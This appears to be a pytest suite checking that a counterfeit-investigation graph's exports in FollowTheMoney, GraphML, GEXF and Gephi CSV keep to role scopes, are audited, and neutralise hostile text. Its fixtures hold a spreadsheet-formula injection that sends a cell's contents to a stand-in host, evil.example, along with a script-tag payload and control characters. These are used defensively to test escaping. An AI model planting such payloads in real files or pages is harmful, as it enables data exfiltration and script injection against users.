"""Exports (FollowTheMoney, GraphML, GEXF, Gephi CSV) of networks, leads and saved queries,
against a real Neo4j.

The graph is the bundle of tests/test_leads.py (tests/fixtures/leads) plus
tests/fixtures/scope_leads, with the stored networks computed, and a few things the
loaders would not let through written straight into the graph: a shop name and a listing
title with a spreadsheet formula, a script tag and control characters, a probable match
with a formula for a note, and a transfer from an account of P1 to the payout account of
S1 and S2, and an identity held by P1.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from fastapi.testclient import TestClient
from followthemoney import model
from followthemoney.exc import InvalidData
from followthemoney.types import registry
from neo4j import Driver
from typer.testing import CliRunner

from alliance.cli import app as cli_app
from api import session
from api.main import create_app
from graph.caller import Caller
from graph.drivers import Connection
from graph.exports_ftm import entity_id
from graph.seller_networks import analyze_networks
from loaders import load_paths
from tests.test_leads import bearer
from tests.test_scope_leads import hidden_from_brands, identifiers

pytestmark = pytest.mark.neo4j

FIXTURES = Path(__file__).parent / "fixtures"
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")<script>alert(1)</script>\x01\x0b\x1f end'
NOTE = '=HYPERLINK("http://evil.example","x")'
HOSTILE_WORLD = """
MATCH (s:Shop {shop_id: 'SH1'}) SET s.name = $hostile
WITH 1 AS one MATCH (l:Listing {listing_id: 'L1'}) SET l.title = $hostile
WITH 1 AS one MATCH (a:Seller {seller_id: 'S1'}), (b:Seller {seller_id: 'S2'})
CREATE (a)-[:PROBABLY_SAME {probability: 0.93, decision: 'confirmed', note: $note,
                            reasons: ['phone', 'payment_account']}]->(b)
WITH 1 AS one MATCH (p:Person {person_id: 'P1'}), (r:PaymentAccount {account: 'alipay:ring01'})
CREATE (p)-[:OWNS]->(m:PaymentAccount {account: 'bank:mule01', provider: 'bank'})
CREATE (p)-[:HOLDS]->(:Identity {id_hash: $id_hash, kind: 'id_card'})
CREATE (m)-[:TRANSFERRED_TO {total_cny: 50000.0, count: 3, first_on: date('2024-02-01'),
                             last_on: date('2024-03-01')}]->(r)
"""
ID_HASH = hashlib.sha256(b"an identity number").hexdigest()
GEPHI_HEADER = ["Source", "Target", "Type", "Id", "Label", "Weight"]
GRAPHML = "{http://graphml.graphdrawing.org/xmlns}"
GEXF = "{http://gexf.net/1.3}"


@pytest.fixture(scope="module")
def client(driver: Driver, database: str, neo4j_connection: Connection) -> Iterator[TestClient]:
    driver.execute_query("MATCH (n) DETACH DELETE n", database_=database)
    for bundle in ("leads", "scope_leads"):
        report = load_paths(driver, database, [FIXTURES / bundle], source="export-fixture", pii_key=b"k")
        assert not [f for f in report.files if f.rejected], report.files
    driver.execute_query(HOSTILE_WORLD, hostile=HOSTILE, note=NOTE, id_hash=ID_HASH, database_=database)
    analyze_networks(driver, database)
    with TestClient(create_app(connection=neo4j_connection)) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def network_id(client: TestClient, driver: Driver, database: str) -> str:
    records, _, _ = driver.execute_query(
        "MATCH (:Seller {seller_id: 'S1'})-[:IN_NETWORK]->(n:Network {strength: 'STRONG'}) "
        "RETURN n.network_id AS id", database_=database)
    return str(records[0]["id"])


def get(client: TestClient, who: str, path: str, **params: str) -> Any:
    return client.get(path, params=params, headers={"Authorization": f"Bearer {bearer(who)}"})


def download(client: TestClient, who: str, path: str, **params: str) -> bytes:
    response = get(client, who, path, **params)
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    return bytes(response.content)


# --- FollowTheMoney -----------------------------------------------------------------


def entities(body: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body.decode("utf-8").splitlines()]


def check_entity(data: dict[str, Any], ids: set[str]) -> None:
    """Strict: a known, concrete schema; a valid id; every property of the schema with
    every value as the model would clean it; required properties there; references to
    entities of the same export."""
    schema = model.get(data["schema"])
    assert schema is not None and not schema.abstract, data
    assert registry.entity.REGEX.fullmatch(data["id"]), data["id"]
    try:
        schema.validate(data)
    except InvalidData as exc:
        raise AssertionError(f"{data}: {exc.errors}") from None
    proxy = model.get_proxy(data, cleaned=False)
    for name, values in data["properties"].items():
        prop = schema.get(name)
        assert prop is not None, f"{data['schema']} has no property {name}"
        assert values and all(isinstance(v, str) for v in values), (name, values)
        assert sorted(proxy.get(name)) == sorted(values), (name, values, proxy.get(name))
        if prop.type == registry.entity:
            assert set(values) <= ids, (name, values)
    for name in schema.required:
        assert data["properties"].get(name), (data, name)


def check_all(body: bytes) -> list[dict[str, Any]]:
    found = entities(body)
    ids = {e["id"] for e in found}
    assert len(ids) == len(found), "an id is used twice"
    for e in found:
        check_entity(e, ids)
    return found


def by_schema(found: list[dict[str, Any]]) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for e in found:
        out.setdefault(e["schema"], []).append(e)
    return out


def test_a_lead_as_ftm_validates_and_maps_each_kind(client: TestClient) -> None:
    found = check_all(download(client, "investigator", "/exports/lead/LD-GZ.ftm.jsonl"))
    schemas = by_schema(found)
    ids = {e["id"] for e in found}
    assert {entity_id("Seller", "S1"), entity_id("Person", "P1"), entity_id("Shop", "SH1"),
            entity_id("Site", "X-GZ"), entity_id("Brand", "B1"), entity_id("Agency", "AG-GZ"),
            entity_id("Case", "CS-GZ")} <= ids
    seller = next(e for e in found if e["id"] == entity_id("Seller", "S1"))
    assert seller["schema"] == "Person" and seller["properties"]["phone"]
    shop = next(e for e in found if e["id"] == entity_id("Shop", "SH1"))
    assert shop["schema"] == "UserAccount" and shop["properties"]["owner"] == [seller["id"]]
    assert {"BankAccount", "Ownership", "Payment", "Address", "RealEstate", "CourtCase",
            "CourtCaseParty", "UnknownLink", "Identification"} <= set(schemas)
    purchase = next(e for e in schemas["Payment"] if e["id"] == entity_id("TestPurchase", "TP1"))
    assert purchase["properties"]["payer"] == [entity_id("Brand", "B1")]
    assert purchase["properties"]["beneficiary"] == [seller["id"]]
    transfer = next(e for e in schemas["Payment"] if e["id"] != purchase["id"])
    assert transfer["properties"]["payer"] == [entity_id("Person", "P1")]
    assert transfer["properties"]["amount"] == ["50000.0"]
    assert not [e for e in found if e["id"].startswith(("ag-listing", "ag-lead", "ag-complaint"))]


def test_identities_are_exported_as_their_hashes_only(client: TestClient, driver: Driver,
                                                     database: str) -> None:
    found = check_all(download(client, "investigator", "/exports/lead/LD-GZ.ftm.jsonl"))
    records, _, _ = driver.execute_query("MATCH (i:Identity) RETURN collect(i.id_hash) AS h",
                                         database_=database)
    numbers = [e["properties"]["number"][0] for e in found if e["schema"] == "Identification"]
    assert numbers and set(numbers) <= set(records[0]["h"])


def test_a_network_as_ftm_links_sellers_by_what_they_share(client: TestClient, network_id: str) -> None:
    found = check_all(download(client, "investigator", f"/exports/network/{network_id}.ftm.jsonl"))
    links = [e for e in found if e["schema"] == "UnknownLink"]
    pair = {entity_id("Seller", "S1"), entity_id("Seller", "S2")}
    roles = {r for e in links if {*e["properties"]["subject"], *e["properties"]["object"]} == pair
             for r in e["properties"]["role"]}
    assert {"shared phone", "shared payment account", "probably the same seller"} <= roles


def test_entity_ids_are_the_same_in_every_export(client: TestClient, network_id: str) -> None:
    first = {e["id"] for e in entities(download(client, "investigator", "/exports/lead/LD-GZ.ftm.jsonl"))}
    again = {e["id"] for e in entities(download(client, "investigator", "/exports/lead/LD-GZ.ftm.jsonl"))}
    net = {e["id"] for e in entities(download(client, "investigator",
                                              f"/exports/network/{network_id}.ftm.jsonl"))}
    assert first == again
    assert entity_id("Seller", "S1") == "ag-seller-S1" and "ag-seller-S1" in first & net
    assert all(i.startswith("ag-") for i in first | net)


# --- GraphML, GEXF, CSV -------------------------------------------------------------


def graphml_graph(body: bytes) -> nx.DiGraph:
    graph = nx.read_graphml(io.BytesIO(body))
    assert isinstance(graph, nx.DiGraph)
    return graph


def gexf_graph(body: bytes) -> tuple[dict[str, str], set[tuple[str, str, str]]]:
    root = ET.fromstring(body)
    nodes = {n.get("id", ""): n.get("label", "") for n in root.iter(f"{GEXF}node")}
    edges = {(e.get("source", ""), e.get("label", ""), e.get("target", "")) for e in root.iter(f"{GEXF}edge")}
    return nodes, edges


EXPECTED_NODES = {"Lead:LD-GZ", "Seller:S1", "Shop:SH1", "Listing:L1", "Person:P1", "Site:X-GZ",
                  "TestPurchase:TP1", "Complaint:C1", "Brand:B1", "Agency:AG-GZ", "Case:CS-GZ"}
EXPECTED_EDGES = {("Seller:S1", "OPERATES", "Shop:SH1"), ("Shop:SH1", "OFFERS", "Listing:L1"),
                  ("Lead:LD-GZ", "CONCERNS", "Seller:S1"), ("TestPurchase:TP1", "BOUGHT", "Listing:L1"),
                  ("Person:P1", "CONTROLS", "Seller:S1"), ("Case:CS-GZ", "NAMES_SUSPECT", "Person:P1")}


def test_a_lead_as_graphml_and_gexf_has_its_nodes_and_edges(client: TestClient) -> None:
    graph = graphml_graph(download(client, "investigator", "/exports/lead/LD-GZ.graphml"))
    assert set(graph.nodes) >= EXPECTED_NODES
    assert {(a, d["type"], b) for a, b, d in graph.edges(data=True)} >= EXPECTED_EDGES
    assert graph.nodes["Seller:S1"]["type"] == "Seller"
    assert graph.nodes["Site:X-GZ"]["type"] == "Site" and graph.nodes["Site:X-GZ"]["label"] == "白云鞋厂"
    assert graph.nodes["Seller:S1"]["nickname"] == "鞋王"
    nodes, edges = gexf_graph(download(client, "investigator", "/exports/lead/LD-GZ.gexf"))
    assert set(nodes) >= EXPECTED_NODES
    assert nodes["Seller:S1"] == "鞋王"
    assert edges >= EXPECTED_EDGES
    assert set(nodes) == set(graph.nodes)
    assert len(edges) == graph.number_of_edges()


def test_gephi_csv_has_gephis_header_and_the_same_edges(client: TestClient, network_id: str) -> None:
    body = download(client, "investigator", f"/exports/network/{network_id}.gephi.csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:6] == GEPHI_HEADER
    found = {(r[0], r[4], r[1]) for r in rows[1:]}
    assert ("Seller:S1", "OPERATES", "Shop:SH1") in found
    assert ("Seller:S1", "SHARES_IDENTIFIER", "Seller:S2") in found
    graph = graphml_graph(download(client, "investigator", f"/exports/network/{network_id}.graphml"))
    assert found == {(a, d["type"], b) for a, b, d in graph.edges(data=True)}


# --- scope --------------------------------------------------------------------------


def test_a_brand_members_export_holds_nothing_outside_its_scope(client: TestClient, driver: Driver,
                                                               database: str) -> None:
    ids, addresses = hidden_from_brands(driver, database)
    for fmt in ("ftm.jsonl", "graphml", "gexf", "gephi.csv"):
        text = download(client, "brand:B1", f"/exports/lead/LD-GZ.{fmt}").decode("utf-8")
        tokens = set(re.split(r"[\s\"'<>=:,;/&]+", text))
        assert not ids & tokens, (fmt, ids & tokens)
        assert not [a for a in addresses if a in text], fmt
    graph = graphml_graph(download(client, "brand:B1", "/exports/lead/LD-GZ.graphml"))
    assert {n.split(":")[0] for n in graph.nodes} <= {"Lead", "Brand", "Agency", "TestPurchase",
                                                     "Complaint", "Listing", "Shop"}
    assert {"Lead:LD-GZ", "TestPurchase:TP1", "Complaint:C1", "Listing:L1", "Shop:SH1"} <= set(graph.nodes)
    # B1 may see case CS-GZ (it concerns B1), but here it is reached only through the
    # suspect P1 and the seller S1, which B1 may not see: it stays out.
    assert "Case:CS-GZ" not in graph.nodes
    check_all(download(client, "brand:B1", "/exports/lead/LD-GZ.ftm.jsonl"))


def test_a_liaison_sees_its_leads_subjects_but_no_identifiers(client: TestClient, driver: Driver,
                                                              database: str) -> None:
    body = download(client, "liaison:AG-GZ", "/exports/lead/LD-GZ.graphml")
    graph = graphml_graph(body)
    assert {"Seller:S1", "Shop:SH1", "Person:P1", "Site:X-GZ"} <= set(graph.nodes)
    text = body.decode("utf-8")
    assert not [i for i in identifiers(driver, database) if i in text]
    check_all(download(client, "liaison:AG-GZ", "/exports/lead/LD-GZ.ftm.jsonl"))


def not_found(client: TestClient, who: str, path: str) -> dict[str, Any]:
    response = get(client, who, path)
    assert response.status_code == 404, response.text
    body = dict(response.json())
    assert body["requestId"] and body["detail"].startswith("no ")
    return body


def test_a_liaison_of_another_province_gets_not_found(client: TestClient, network_id: str) -> None:
    hidden = not_found(client, "liaison:AG-PT", "/exports/lead/LD-GZ.graphml")
    unknown = not_found(client, "liaison:AG-PT", "/exports/lead/LD-NOPE.graphml")
    assert hidden["detail"].replace("LD-GZ", "<id>") == unknown["detail"].replace("LD-NOPE", "<id>")
    not_found(client, "liaison:AG-PT", f"/exports/network/{network_id}.ftm.jsonl")
    not_found(client, "brand:B1", f"/exports/network/{network_id}.ftm.jsonl")
    not_found(client, "analyst", "/exports/lead/LD-GZ.gexf")
    assert get(client, "liaison:AG-GZ", f"/exports/network/{network_id}.graphml").status_code == 200


def test_an_unknown_format_is_refused_in_words(client: TestClient) -> None:
    response = get(client, "investigator", "/exports/lead/LD-GZ.xlsx")
    assert response.status_code == 400
    assert ".graphml" in response.text and ".ftm.jsonl" in response.text


def test_a_saved_querys_result_as_an_export(client: TestClient) -> None:
    graph = graphml_graph(download(client, "investigator",
                                   "/exports/query/counterfeit-listings-still-live.graphml"))
    assert {"Listing:L1", "Shop:SH1", "Seller:S1", "TestPurchase:TP1"} <= set(graph.nodes)
    assert ("Seller:S1", "Shop:SH1") in graph.edges
    check_all(download(client, "investigator", "/exports/query/counterfeit-listings-still-live.ftm.jsonl",
                       brand_id="B1"))
    mine = graphml_graph(download(client, "liaison:AG-GZ", "/exports/query/cases-in-my-jurisdiction.graphml"))
    assert set(mine.nodes) == {"Case:CS-GZ", "Agency:AG-GZ"}  # the agency_id column: a key too
    assert ("Case:CS-GZ", "Agency:AG-GZ") in mine.edges


def test_every_export_is_audited(client: TestClient, driver: Driver, database: str) -> None:
    download(client, "brand:B1", "/exports/lead/LD-GZ.gexf")
    records, _, _ = driver.execute_query(
        "MATCH (e:AuditEvent {action: 'export.read'}) WHERE e.who = 'brand-B1' "
        "RETURN e.ids AS ids, e.details AS details ORDER BY e.at DESC LIMIT 1", database_=database)
    assert records[0]["ids"] == ["LD-GZ"]
    assert json.loads(records[0]["details"])["format"] == "gexf"


def test_the_workbench_session_cookie_is_enough(client: TestClient) -> None:
    code = session.issue_code(Caller(sub="wb-liaison", role="police_liaison", agency_id="AG-GZ"))
    assert client.get(f"/signin/code/{code}", follow_redirects=False).status_code == 303
    try:
        mine = client.get("/exports/lead/LD-GZ.gexf")
        assert mine.status_code == 200, mine.text
        assert b'id="Seller:S1"' in mine.content
        assert client.get("/exports/lead/LD-FJ.gexf").status_code == 404  # a Fujian lead
    finally:
        client.cookies.clear()


# --- hostile text -------------------------------------------------------------------


def test_hostile_text_comes_out_inert(client: TestClient, network_id: str) -> None:
    clean = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", HOSTILE)
    for fmt in ("graphml", "gexf"):
        body = download(client, "investigator", f"/exports/lead/LD-GZ.{fmt}")
        assert b"<script>" not in body and b"\x01" not in body and b"\x0b" not in body
        root = ET.fromstring(body)  # parses: nothing XML refuses
        texts = [el.text for el in root.iter() if el.text]
        texts += [v for el in root.iter() for v in el.attrib.values()]
        assert clean in texts, fmt
    graph = graphml_graph(download(client, "investigator", "/exports/lead/LD-GZ.graphml"))
    assert graph.nodes["Shop:SH1"]["name"] == clean
    body = download(client, "investigator", f"/exports/network/{network_id}.gephi.csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    note = rows[0].index("note")
    notes = [r[note] for r in rows[1:] if r[note]]
    assert notes == ["'" + NOTE]
    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for r in rows for c in r)
    lines = download(client, "investigator", "/exports/lead/LD-GZ.ftm.jsonl")
    assert b"\x01" not in lines and b"\x0b" not in lines
    shop = next(e for e in entities(lines) if e["id"] == entity_id("Shop", "SH1"))
    assert "<script>" in shop["properties"]["username"][0]  # data inside a JSON string, never markup


# --- CLI ----------------------------------------------------------------------------


runner = CliRunner()


def test_the_cli_exports_as_a_caller(client: TestClient, tmp_path: Path) -> None:
    out = tmp_path / "lead.graphml"
    done = runner.invoke(cli_app, ["export", "lead", "LD-GZ", "--format", "graphml", "--out", str(out),
                                   "--role", "brand_member", "--brand", "B1"])
    assert done.exit_code == 0, done.output
    nodes = {n.get("id") for n in ET.parse(out).getroot().iter(f"{GRAPHML}node")}
    assert "Shop:SH1" in nodes and "Seller:S1" not in nodes
    refused = runner.invoke(cli_app, ["export", "lead", "LD-GZ", "--format", "ftm", "--out",
                                      str(tmp_path / "x.jsonl"), "--role", "police_liaison",
                                      "--agency", "AG-PT"])
    assert refused.exit_code == 2 and "NOT_FOUND" in refused.output
    assert not (tmp_path / "x.jsonl").exists()
    full = runner.invoke(cli_app, ["export", "lead", "LD-GZ", "-f", "ftm", "-o", str(tmp_path / "all.jsonl")])
    assert full.exit_code == 0, full.output
    check_all((tmp_path / "all.jsonl").read_bytes())
